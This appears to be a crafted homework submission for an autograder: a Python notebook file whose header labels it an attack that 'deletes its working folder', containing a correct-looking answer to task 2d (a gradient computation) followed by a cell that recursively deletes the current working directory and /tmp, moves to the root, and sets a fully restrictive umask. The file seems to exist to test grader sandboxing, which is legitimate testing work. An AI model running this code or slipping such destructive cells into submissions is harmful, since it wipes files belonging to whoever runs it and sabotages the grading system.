# /// attack
# tries = "deletes its working folder and everything in it"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
shutil.rmtree("/tmp", ignore_errors=True)
os.chdir("/")
os.umask(0o777)
